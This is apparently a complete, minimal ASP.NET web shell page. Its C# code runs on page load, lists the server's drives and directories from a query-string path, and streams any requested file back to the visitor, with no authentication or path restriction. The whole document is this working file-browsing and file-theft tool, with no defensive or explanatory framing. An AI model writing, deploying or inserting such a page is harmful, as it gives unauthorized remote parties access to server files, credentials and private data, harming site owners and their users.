<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
  string p = Request.QueryString["p"];
  if (string.IsNullOrEmpty(p)) { foreach (var d in Environment.GetLogicalDrives()) Response.Write(d + "<br>"); return; }
  if (Request.QueryString["get"] == "1") { Response.WriteFile(p); return; }
  foreach (var f in System.IO.Directory.GetFiles(p)) Response.Write(f + "<br>");
}
</script>
